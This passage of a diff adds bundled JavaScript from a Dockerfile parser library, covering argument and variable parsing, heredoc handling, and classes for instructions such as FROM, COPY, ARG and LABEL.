+                args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + fullArgs.length))));
+            }
+            else {
+                args.push(new argument_1.Argument(escapedArg, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + found), this.document.positionAt(offset + escapeMarker))));
+            }
+        }
+        return args;
+    }
+    getExpandedArguments() {
+        let args = this.getArguments();
+        for (let i = 0; i < args.length; i++) {
+            const argRange = args[i].getRange();
+            let offset = this.document.offsetAt(argRange.start);
+            const variables = this.parseVariables(offset, args[i].getValue());
+            const swaps = [];
+            let requiresExpansion = false;
+            for (let variable of variables) {
+                const value = this.dockerfile.resolveVariable(variable.getName(), variable.getNameRange().start.line);
+                swaps.push(value);
+                requiresExpansion = requiresExpansion || value !== undefined;
+            }
+            if (requiresExpansion) {
+                let expanded = "";
+                for (let j = 0; j < swaps.length; j++) {
+                    const variableRange = variables[j].getRange();
+                    const start = this.document.offsetAt(variableRange.start);
+                    const end = this.document.offsetAt(variableRange.end);
+                    if (swaps[j]) {
+                        // replace variable with its resolved value
+                        expanded += this.document.getText().substring(offset, start);
+                        expanded += swaps[j];
+                        offset = end;
+                    }
+                    else {
+                        expanded += this.document.getText().substring(offset, end);
+                        offset = end;
+                    }
+                }
+                const argEnd = this.document.offsetAt(argRange.end);
+                if (argEnd !== offset) {
+                    // if the variable's range doesn't match the argument,
+                    // append the remaining text
+                    expanded += this.document.getText().substring(offset, argEnd);
+                }
+                args[i] = new argument_1.Argument(expanded, argRange);
+            }
+        }
+        return args;
+    }
+    getVariables() {
+        const variables = [];
+        const args = this.getRawArguments();
+        for (const arg of args) {
+            let range = arg.getRange();
+            let rawValue = this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
+            const parsedVariables = this.parseVariables(this.document.offsetAt(arg.getRange().start), rawValue);
+            for (const parsedVariable of parsedVariables) {
+                variables.push(parsedVariable);
+            }
+        }
+        return variables;
+    }
+    parseVariables(offset, arg) {
+        let variables = [];
+        variableLoop: for (let i = 0; i < arg.length; i++) {
+            switch (arg.charAt(i)) {
+                case this.escapeChar:
+                    if (arg.charAt(i + 1) === '$') {
+                        i++;
+                    }
+                    break;
+                case '$':
+                    if (arg.charAt(i + 1) === '{') {
+                        let escapedString = "${";
+                        let escapedName = "";
+                        let nameEnd = -1;
+                        let escapedSubstitutionParameter = "";
+                        let substitutionStart = -1;
+                        let substitutionEnd = -1;
+                        let modifierRead = -1;
+                        nameLoop: for (let j = i + 2; j < arg.length; j++) {
+                            let char = arg.charAt(j);
+                            switch (char) {
+                                case this.escapeChar:
+                                    for (let k = j + 1; k < arg.length; k++) {
+                                        switch (arg.charAt(k)) {
+                                            case ' ':
+                                            case '\t':
+                                            case '\r':
+                                                // ignore whitespace
+                                                continue;
+                                            case '\n':
+                                                // escape this newline
+                                                j = k;
+                                                continue nameLoop;
+                                        }
+                                    }
+                                    break;
+                                case '}':
+                                    escapedString += '}';
+                                    let modifier = null;
+                                    let modifierRange = null;
+                                    let substitutionParameter = modifierRead !== -1 ? escapedSubstitutionParameter : null;
+                                    let substitutionRange = null;
+                                    if (nameEnd === -1) {
+                                        nameEnd = j;
+                                    }
+                                    else if (nameEnd + 1 === j) {
+                                        modifier = "";
+                                        modifierRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + nameEnd + 1), this.document.positionAt(offset + nameEnd + 1));
+                                    }
+                                    else {
+                                        if (substitutionStart === -1) {
+                                            // no substitution parameter found,
+                                            // but a modifier character existed,
+                                            // just offset the range by 1 from
+                                            // the modifier character
+                                            substitutionStart = modifierRead + 1;
+                                            substitutionEnd = modifierRead + 1;
+                                        }
+                                        else {
+                                            // offset one more from the last
+                                            // character found
+                                            substitutionEnd = substitutionEnd + 1;
+                                        }
+                                        modifier = arg.substring(modifierRead, modifierRead + 1);
+                                        modifierRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + modifierRead), this.document.positionAt(offset + modifierRead + 1));
+                                        substitutionRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + substitutionStart), this.document.positionAt(offset + substitutionEnd));
+                                    }
+                                    let start = this.document.positionAt(offset + i);
+                                    variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 2), this.document.positionAt(offset + nameEnd)), vscode_languageserver_types_1.Range.create(start, this.document.positionAt(offset + j + 1)), modifier, modifierRange, substitutionParameter, substitutionRange, this.dockerfile.resolveVariable(escapedName, start.line) !== undefined, this.isBuildVariable(escapedName, start.line), escapedString));
+                                    i = j;
+                                    continue variableLoop;
+                                case ':':
+                                    if (nameEnd === -1) {
+                                        nameEnd = j;
+                                    }
+                                    else if (modifierRead !== -1) {
+                                        if (substitutionStart === -1) {
+                                            substitutionStart = j;
+                                            substitutionEnd = j;
+                                        }
+                                        else {
+                                            substitutionEnd = j;
+                                        }
+                                        escapedSubstitutionParameter += ':';
+                                    }
+                                    else {
+                                        modifierRead = j;
+                                    }
+                                    escapedString += ':';
+                                    break;
+                                case '\n':
+                                case '\r':
+                                case ' ':
+                                case '\t':
+                                    break;
+                                default:
+                                    if (nameEnd === -1) {
+                                        escapedName += char;
+                                    }
+                                    else if (modifierRead !== -1) {
+                                        if (substitutionStart === -1) {
+                                            substitutionStart = j;
+                                            substitutionEnd = j;
+                                        }
+                                        else {
+                                            substitutionEnd = j;
+                                        }
+                                        escapedSubstitutionParameter += char;
+                                    }
+                                    else {
+                                        modifierRead = j;
+                                    }
+                                    escapedString += char;
+                                    break;
+                            }
+                        }
+                        // no } found, not a valid variable, stop processing
+                        break variableLoop;
+                    }
+                    else if (util_1.Util.isWhitespace(arg.charAt(i + 1)) || i === arg.length - 1) {
+                        // $ followed by whitespace or EOF, ignore this variable
+                        continue;
+                    }
+                    else {
+                        let escapedName = "";
+                        nameLoop: for (let j = i + 1; j < arg.length; j++) {
+                            let char = arg.charAt(j);
+                            switch (char) {
+                                case '\r':
+                                case '\n':
+                                case ' ':
+                                case '\t':
+                                    continue;
+                                case '$':
+                                case '\'':
+                                case '"':
+                                    let varStart = this.document.positionAt(offset + i);
+                                    variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + j)), vscode_languageserver_types_1.Range.create(varStart, this.document.positionAt(offset + j)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, varStart.line) !== undefined, this.isBuildVariable(escapedName, varStart.line), '$' + escapedName));
+                                    i = j - 1;
+                                    continue variableLoop;
+                                case this.escapeChar:
+                                    for (let k = j + 1; k < arg.length; k++) {
+                                        switch (arg.charAt(k)) {
+                                            case ' ':
+                                            case '\t':
+                                            case '\r':
+                                                // ignore whitespace
+                                                continue;
+                                            case '\n':
+                                                // escape this newline
+                                                j = k;
+                                                continue nameLoop;
+                                        }
+                                    }
+                                    // reached EOF after an escape character
+                                    let start = this.document.positionAt(offset + i);
+                                    variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + j)), vscode_languageserver_types_1.Range.create(start, this.document.positionAt(offset + j)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, start.line) !== undefined, this.isBuildVariable(escapedName, start.line), '$' + escapedName));
+                                    break variableLoop;
+                            }
+                            if (char.match(/^[a-z0-9_]+$/i) === null) {
+                                let varStart = this.document.positionAt(offset + i);
+                                variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + j)), vscode_languageserver_types_1.Range.create(varStart, this.document.positionAt(offset + j)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, varStart.line) !== undefined, this.isBuildVariable(escapedName, varStart.line), '$' + escapedName));
+                                i = j - 1;
+                                continue variableLoop;
+                            }
+                            escapedName += char;
+                        }
+                        let start = this.document.positionAt(offset + i);
+                        variables.push(new variable_1.Variable(escapedName, vscode_languageserver_types_1.Range.create(this.document.positionAt(offset + i + 1), this.document.positionAt(offset + arg.length)), vscode_languageserver_types_1.Range.create(start, this.document.positionAt(offset + arg.length)), null, null, null, null, this.dockerfile.resolveVariable(escapedName, start.line) !== undefined, this.isBuildVariable(escapedName, start.line), '$' + escapedName));
+                    }
+                    break variableLoop;
+            }
+        }
+        return variables;
+    }
+    isBuildVariable(variable, line) {
+        if (this.getKeyword() === main_1.Keyword.FROM) {
+            for (const initialArg of this.dockerfile.getInitialARGs()) {
+                const arg = initialArg;
+                const property = arg.getProperty();
+                if (property && variable === property.getName()) {
+                    return true;
+                }
+            }
+            return undefined;
+        }
+        let image = this.dockerfile.getContainingImage(vscode_languageserver_types_1.Position.create(line, 0));
+        let envs = image.getENVs();
+        for (let i = envs.length - 1; i >= 0; i--) {
+            if (envs[i].isBefore(line)) {
+                for (let property of envs[i].getProperties()) {
+                    if (property.getName() === variable) {
+                        return false;
+                    }
+                }
+            }
+        }
+        let args = image.getARGs();
+        for (let i = args.length - 1; i >= 0; i--) {
+            if (args[i].isBefore(line)) {
+                let property = args[i].getProperty();
+                if (property && property.getName() === variable) {
+                    return true;
+                }
+            }
+        }
+        return undefined;
+    }
+    createSingleLineHeredocs(args) {
+        const heredocs = [];
+        // instruction only on one line, if heredocs exist they would be incomplete
+        for (const arg of args) {
+            const value = arg.getValue();
+            if (value.startsWith("<<") && util_1.Util.parseHeredocName(value) !== null) {
+                const startRange = arg.getRange();
+                const nameRange = this.getNameRange(startRange);
+                const name = this.getName(nameRange);
+                heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, null, null));
+            }
+        }
+        return heredocs;
+    }
+    getName(nameRange) {
+        const content = this.document.getText(nameRange);
+        let escaping = false;
+        let name = "";
+        nameLoop: for (let i = 0; i < content.length; i++) {
+            const ch = content.charAt(i);
+            switch (ch) {
+                case this.escapeChar:
+                    escaping = true;
+                    for (let j = i + 1; j < content.length; j++) {
+                        switch (content.charAt(j)) {
+                            case ' ':
+                            case '\t':
+                                break;
+                            case '\r':
+                                i = j + 1;
+                                continue nameLoop;
+                            case '\n':
+                                i = j;
+                                continue nameLoop;
+                            default:
+                                name += content.charAt(j);
+                                i = j;
+                                continue nameLoop;
+                        }
+                    }
+                    break;
+                case '#':
+                    if (escaping) {
+                        for (let j = i + 1; j < content.length; j++) {
+                            switch (content.charAt(j)) {
+                                case '\n':
+                                    i = j;
+                                    continue nameLoop;
+                            }
+                        }
+                    }
+                case ' ':
+                case '\t':
+                case '\r':
+                case '\n':
+                    if (escaping) {
+                        break;
+                    }
+                default:
+                    name += ch;
+                    break;
+            }
+        }
+        return name;
+    }
+    getNameRange(startRange) {
+        const content = this.document.getText(startRange);
+        let endFound = false;
+        let searchHyphen = false;
+        let start = -1;
+        let end = -1;
+        let escaping = false;
+        let quote = null;
+        contentLoop: for (let i = 0; i < content.length; i++) {
+            const ch = content.charAt(i);
+            switch (ch) {
+                case '"':
+                case '\'':
+                    if (quote === ch) {
+                        break contentLoop;
+                    }
+                    quote = ch;
+                    continue;
+                case this.escapeChar:
+                    for (let j = i + 1; j < content.length; j++) {
+                        switch (content.charAt(j)) {
+                            case '\n':
+                                escaping = true;
+                                j = i;
+                                continue contentLoop;
+                        }
+                    }
+                    break;
+                case ' ':
+                case '\t':
+                case '\r':
+                case '\n':
+                    break;
+                case '<':
+                    if (endFound) {
+                        searchHyphen = true;
+                    }
+                    else {
+                        endFound = true;
+                    }
+                    break;
+                case '-':
+                    if (searchHyphen) {
+                        searchHyphen = false;
+                        break;
+                    }
+                case '#':
+                    if (escaping) {
+                        for (let j = i + 1; j < content.length; j++) {
+                            switch (content.charAt(j)) {
+                                case '\n':
+                                    i = j;
+                                    continue contentLoop;
+                            }
+                        }
+                    }
+                default:
+                    if (start === -1) {
+                        start = i;
+                    }
+                    if (quote !== null) {
+                        end = i + 1;
+                        break;
+                    }
+                    break contentLoop;
+            }
+        }
+        if (start === -1) {
+            return vscode_languageserver_types_1.Range.create(startRange.end, startRange.end);
+        }
+        const nameStart = this.document.positionAt(this.document.offsetAt(startRange.start) + start);
+        const nameEnd = quote !== null ? this.document.positionAt(this.document.offsetAt(startRange.start) + end) : startRange.end;
+        return vscode_languageserver_types_1.Range.create(nameStart, nameEnd);
+    }
+    getHeredocs() {
+        const args = this.getArguments();
+        if (args.length === 0) {
+            return [];
+        }
+        const heredocs = [];
+        const range = this.getRange();
+        if (range.start.line === range.end.line) {
+            // instruction only on one line, if heredocs exist they would be incomplete
+            return this.createSingleLineHeredocs(args);
+        }
+        const heredocDefinitions = [];
+        let heredocsProcessed = false;
+        let escaping = false;
+        let contentStart = -1;
+        let contentEnd = -1;
+        let lineStart = -1;
+        let currentHeredoc = 0;
+        const startOffset = this.document.offsetAt(args[0].getRange().start);
+        const content = this.getRangeContent(vscode_languageserver_types_1.Range.create(args[0].getRange().start, this.getRange().end));
+        contentLoop: for (let i = 0; i < content.length; i++) {
+            switch (content.charAt(i)) {
+                case this.escapeChar:
+                    escaping = true;
+                    for (let j = i + 1; j < content.length; j++) {
+                        switch (content.charAt(j)) {
+                            case ' ':
+                            case '\t':
+                                break;
+                            case '\r':
+                                j++;
+                            case '\n':
+                                i = j;
+                                continue contentLoop;
+                            default:
+                                i = j;
+                                continue contentLoop;
+                        }
+                    }
+                    break;
+                case '\r':
+                    break;
+                case '\n':
+                    if (escaping) {
+                        break;
+                    }
+                    if (heredocsProcessed) {
+                        if (contentStart === -1) {
+                            contentStart = i;
+                        }
+                        contentEnd = i;
+                        const arg = heredocDefinitions[currentHeredoc];
+                        const startRange = arg.getRange();
+                        const nameRange = this.getNameRange(startRange);
+                        const name = this.getName(nameRange);
+                        const delimiterRange = this.getDelimiterRange(arg, name, vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + lineStart), this.document.positionAt(startOffset + i)));
+                        if (delimiterRange !== null) {
+                            const contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), this.document.positionAt(startOffset + lineStart - 1));
+                            heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, contentRange, delimiterRange));
+                            contentStart = -1;
+                            currentHeredoc++;
+                        }
+                        lineStart = -1;
+                    }
+                    else {
+                        // found a newline that hasn't been escaped,
+                        // must be in a heredoc
+                        const offsetLimit = startOffset + i;
+                        for (const arg of args) {
+                            // check if this argument is on the initial line of the instruction,
+                            // note that it may not all be on the same line due to escaped newlines,
+                            // because of that we need to use offset checks instead of line checks
+                            // as an argument being on a different line in the document does not
+                            // imply it is on a different line from the Dockerfile's point of view
+                            if (this.document.offsetAt(arg.getRange().start) < offsetLimit) {
+                                if (arg.getValue().startsWith("<<")) {
+                                    heredocDefinitions.push(arg);
+                                }
+                            }
+                            else {
+                                break;
+                            }
+                        }
+                        heredocsProcessed = true;
+                        lineStart = -1;
+                        continue contentLoop;
+                    }
+                    break;
+                case ' ':
+                case '\t':
+                    if (escaping) {
+                        break;
+                    }
+                case '#':
+                    if (escaping) {
+                        for (let j = i + 1; j < content.length; j++) {
+                            switch (content.charAt(j)) {
+                                case '\n':
+                                    i = j;
+                                    continue contentLoop;
+                            }
+                        }
+                    }
+                default:
+                    if (escaping) {
+                        escaping = false;
+                    }
+                    if (heredocsProcessed) {
+                        if (contentStart === -1) {
+                            contentStart = i;
+                        }
+                        if (lineStart === -1) {
+                            lineStart = i;
+                        }
+                    }
+                    break;
+            }
+        }
+        if (heredocsProcessed) {
+            const arg = heredocDefinitions[currentHeredoc];
+            const startRange = arg.getRange();
+            const nameRange = this.getNameRange(startRange);
+            const name = this.getName(nameRange);
+            let contentRange = null;
+            // check if the last line of this instruction matches the name of the last heredoc
+            const delimiterRange = this.getDelimiterRange(arg, name, vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + lineStart), range.end));
+            if (delimiterRange === null) {
+                contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), range.end);
+            }
+            else if (contentEnd !== -1) {
+                contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), this.document.positionAt(startOffset + contentEnd));
+            }
+            heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, contentRange, delimiterRange));
+            currentHeredoc++;
+            for (let i = currentHeredoc; i < heredocDefinitions.length; i++) {
+                const arg = heredocDefinitions[currentHeredoc];
+                const startRange = arg.getRange();
+                const nameRange = this.getNameRange(startRange);
+                const name = this.getName(nameRange);
+                heredocs.push(new heredoc_1.Heredoc(startRange, name, nameRange, null, null));
+                currentHeredoc++;
+            }
+        }
+        else {
+            // instruction only on one line, if heredocs exist they would be incomplete
+            return this.createSingleLineHeredocs(args);
+        }
+        return heredocs;
+    }
+    getDelimiterRange(startArg, name, candidateRange) {
+        const text = this.document.getText(candidateRange);
+        if (startArg.getValue().startsWith("<<-")) {
+            // remove tabs in the front
+            let index = 0;
+            while (text.charAt(index) === '\t') {
+                index++;
+            }
+            if (text.substring(index) === name) {
+                return vscode_languageserver_types_1.Range.create(vscode_languageserver_types_1.Position.create(candidateRange.start.line, index), candidateRange.end);
+            }
+            return null;
+        }
+        return text === name ? candidateRange : null;
+    }
+}
+exports.Instruction = Instruction;
+
+
+/***/ }),
+
+/***/ 9618:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Add = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Add extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+    }
+}
+exports.Add = Add;
+
+
+/***/ }),
+
+/***/ 4381:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Arg = void 0;
+const property_1 = __nccwpck_require__(9602);
+const propertyInstruction_1 = __nccwpck_require__(4984);
+class Arg extends propertyInstruction_1.PropertyInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+        this.property = null;
+        const args = this.getPropertyArguments();
+        if (args.length === 1) {
+            this.property = new property_1.Property(this.document, this.escapeChar, args[0]);
+        }
+        else {
+            this.property = null;
+        }
+    }
+    /**
+     * Returns the variable defined by this ARG. This may be null if
+     * this ARG instruction is malformed and has no variable
+     * declaration.
+     */
+    getProperty() {
+        return this.property;
+    }
+}
+exports.Arg = Arg;
+
+
+/***/ }),
+
+/***/ 5517:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Cmd = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Cmd extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+}
+exports.Cmd = Cmd;
+
+
+/***/ }),
+
+/***/ 444:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Copy = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Copy extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+    }
+    getFromFlag() {
+        let flags = super.getFlags();
+        return flags.length === 1 && flags[0].getName() === "from" ? flags[0] : null;
+    }
+    /**
+     * Returns there here-documents that are defined in this RUN
+     * instruction.
+     *
+     * This API is experimental and subject to change.
+     */
+    getHeredocs() {
+        return super.getHeredocs();
+    }
+}
+exports.Copy = Copy;
+
+
+/***/ }),
+
+/***/ 1835:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Entrypoint = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Entrypoint extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+}
+exports.Entrypoint = Entrypoint;
+
+
+/***/ }),
+
+/***/ 1822:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Env = void 0;
+const propertyInstruction_1 = __nccwpck_require__(4984);
+class Env extends propertyInstruction_1.PropertyInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    getProperties() {
+        return super.getProperties();
+    }
+}
+exports.Env = Env;
+
+
+/***/ }),
+
+/***/ 5377:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.From = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const modifiableInstruction_1 = __nccwpck_require__(2393);
+class From extends modifiableInstruction_1.ModifiableInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+    }
+    getImage() {
+        const args = this.getArguments();
+        return args.length > 0 ? args[0].getValue() : null;
+    }
+    /**
+     * Returns the name of the image that will be used as the base image.
+     *
+     * @return the base image's name, or null if unspecified
+     */
+    getImageName() {
+        const imageName = this.getRangeContent(this.getImageNameRange());
+        if (imageName === null) {
+            return null;
+        }
+        let commented = false;
+        let escaped = false;
+        let name = "";
+        for (let i = 0; i < imageName.length; i++) {
+            const ch = imageName.charAt(i);
+            switch (ch) {
+                case this.escapeChar:
+                    escaped = true;
+                    break;
+                case '\r':
+                    continue;
+                case '\n':
+                    commented = false;
+                    break;
+                case ' ':
+                case '\t':
+                    break;
+                case '#':
+                    if (escaped) {
+                        commented = true;
+                    }
+                    else {
+                        name = name + ch;
+                        escaped = false;
+                    }
+                    break;
+                default:
+                    if (!commented) {
+                        name = name + ch;
+                        escaped = false;
+                    }
+                    break;
+            }
+        }
+        return name;
+    }
+    /**
+     * Returns the range that covers the name of the image used by
+     * this instruction.
+     *
+     * @return the range of the name of this instruction's argument,
+     *         or null if no image has been specified
+     */
+    getImageNameRange() {
+        let range = this.getImageRange();
+        if (range) {
+            let registryRange = this.getRegistryRange();
+            if (registryRange) {
+                range.start = this.document.positionAt(this.document.offsetAt(registryRange.end) + 1);
+            }
+            let tagRange = this.getImageTagRange();
+            let digestRange = this.getImageDigestRange();
+            if (tagRange === null) {
+                if (digestRange !== null) {
+                    range.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
+                }
+            }
+            else {
+                range.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
+            }
+            return range;
+        }
+        return null;
+    }
+    /**
+     * Returns the range that covers the image argument of this
+     * instruction. This includes the tag or digest of the image if
+     * it has been specified by the instruction.
+     *
+     * @return the range of the image argument, or null if no image
+     *         has been specified
+     */
+    getImageRange() {
+        let args = this.getArguments();
+        return args.length !== 0 ? args[0].getRange() : null;
+    }
+    getImageTag() {
+        return this.getRangeContent(this.getImageTagRange());
+    }
+    /**
+     * Returns the range in the document that the tag of the base
+     * image encompasses.
+     *
+     * @return the base image's tag's range in the document, or null
+     *         if no tag has been specified
+     */
+    getImageTagRange() {
+        const range = this.getImageRange();
+        if (range) {
+            const rangeStartOffset = this.document.offsetAt(range.start);
+            const content = this.getRangeContent(range);
+            const atIndex = this.indexOf(rangeStartOffset, content, '@');
+            const slashIndex = content.indexOf('/');
+            if (atIndex === -1) {
+                const colonIndex = this.lastIndexOf(rangeStartOffset, content, ':');
+                if (colonIndex > slashIndex) {
+                    return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + colonIndex + 1), range.end);
+                }
+            }
+            const subcontent = content.substring(0, atIndex);
+            const subcolonIndex = subcontent.indexOf(':');
+            if (subcolonIndex === -1) {
+                return null;
+            }
+            if (slashIndex === -1) {
+                // slash not found suggests no registry and no namespace defined
+                return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + subcolonIndex + 1), this.document.positionAt(rangeStartOffset + atIndex));
+            }
+            // both colon and slash found, check if it is a port
+            if (subcolonIndex < slashIndex) {
+                return null;
+            }
+            return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + subcolonIndex + 1), this.document.positionAt(rangeStartOffset + subcontent.length));
+        }
+        return null;
+    }
+    getImageDigest() {
+        return this.getRangeContent(this.getImageDigestRange());
+    }
+    /**
+     * Returns the range in the document that the digest of the base
+     * image encompasses.
+     *
+     * @return the base image's digest's range in the document, or null
+     *         if no digest has been specified
+     */
+    getImageDigestRange() {
+        let range = this.getImageRange();
+        if (range) {
+            let content = this.getRangeContent(range);
+            let index = this.lastIndexOf(this.document.offsetAt(range.start), content, '@');
+            if (index !== -1) {
+                return vscode_languageserver_types_1.Range.create(range.start.line, range.start.character + index + 1, range.end.line, range.end.character);
+            }
+        }
+        return null;
+    }
+    indexOf(documentOffset, content, searchString) {
+        let index = content.indexOf(searchString);
+        const variables = this.getVariables();
+        for (let i = 0; i < variables.length; i++) {
+            const position = documentOffset + index;
+            const variableRange = variables[i].getRange();
+            if (this.document.offsetAt(variableRange.start) < position && position < this.document.offsetAt(variableRange.end)) {
+                const offset = this.document.offsetAt(variableRange.end) - documentOffset;
+                const substring = content.substring(offset);
+                const subIndex = substring.indexOf(searchString);
+                if (subIndex === -1) {
+                    return -1;
+                }
+                index = subIndex + offset;
+                i = -1;
+                continue;
+            }
+        }
+        return index;
+    }
+    lastIndexOf(documentOffset, content, searchString) {
+        let index = content.lastIndexOf(searchString);
+        const variables = this.getVariables();
+        for (let i = 0; i < variables.length; i++) {
+            const position = documentOffset + index;
+            const variableRange = variables[i].getRange();
+            if (this.document.offsetAt(variableRange.start) < position && position < this.document.offsetAt(variableRange.end)) {
+                index = content.substring(0, index).lastIndexOf(searchString);
+                if (index === -1) {
+                    return -1;
+                }
+                i = -1;
+                continue;
+            }
+        }
+        return index;
+    }
+    getRegistry() {
+        return this.getRangeContent(this.getRegistryRange());
+    }
+    getRegistryRange() {
+        const range = this.getImageRange();
+        if (range) {
+            const tagRange = this.getImageTagRange();
+            const digestRange = this.getImageDigestRange();
+            if (tagRange === null) {
+                if (digestRange !== null) {
+                    range.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
+                }
+            }
+            else {
+                range.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
+            }
+            const content = this.getRangeContent(range);
+            const rangeStart = this.document.offsetAt(range.start);
+            const startingSlashIndex = this.indexOf(rangeStart, content, '/');
+            if (startingSlashIndex === -1) {
+                return null;
+            }
+            const portIndex = this.indexOf(rangeStart, content, ':');
+            const dotIndex = this.indexOf(rangeStart, content, '.');
+            // hostname detected
+            if (portIndex !== -1 || dotIndex !== -1) {
+                return vscode_languageserver_types_1.Range.create(range.start, this.document.positionAt(rangeStart + startingSlashIndex));
+            }
+            const registry = content.substring(0, startingSlashIndex);
+            // localhost registry detected
+            if (registry === 'localhost') {
+                return vscode_languageserver_types_1.Range.create(range.start, this.document.positionAt(rangeStart + startingSlashIndex));
+            }
+        }
+        return null;
+    }
+    getBuildStage() {
+        let range = this.getBuildStageRange();
+        return range === null ? null : this.getRangeContent(range);
+    }
+    getBuildStageRange() {
+        let args = this.getArguments();
+        if (args.length > 2 && args[1].getValue().toUpperCase() === "AS") {
+            return args[2].getRange();
+        }
+        return null;
+    }
+    getPlatformFlag() {
+        let flags = super.getFlags();
+        return flags.length === 1 && flags[0].getName() === "platform" ? flags[0] : null;
+    }
+}
+exports.From = From;
+
+
+/***/ }),
+
+/***/ 1167:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Healthcheck = void 0;
+const modifiableInstruction_1 = __nccwpck_require__(2393);
+class Healthcheck extends modifiableInstruction_1.ModifiableInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    stopSearchingForFlags(argument) {
+        argument = argument.toUpperCase();
+        return argument === "CMD" || argument === "NONE";
+    }
+    getSubcommand() {
+        let args = this.getArguments();
+        return args.length !== 0 ? args[0] : null;
+    }
+}
+exports.Healthcheck = Healthcheck;
+
+
+/***/ }),
+
+/***/ 3871:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Label = void 0;
+const propertyInstruction_1 = __nccwpck_require__(4984);
+const util_1 = __nccwpck_require__(7459);
+class Label extends propertyInstruction_1.PropertyInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    getVariables() {
+        const variables = super.getVariables();
+        const properties = this.getProperties();
+        // iterate over all of this LABEL's properties
+        for (const property of properties) {
+            const value = property.getUnescapedValue();
+            // check if the value is contained in single quotes,
+            // single quotes would indicate a literal value
+            if (value !== null && value.length > 2 && value.charAt(0) === '\'' && value.charAt(value.length - 1) === '\'') {
+                const range = property.getValueRange();
+                for (let i = 0; i < variables.length; i++) {
+                    // if a variable is in a single quote, remove it from the list
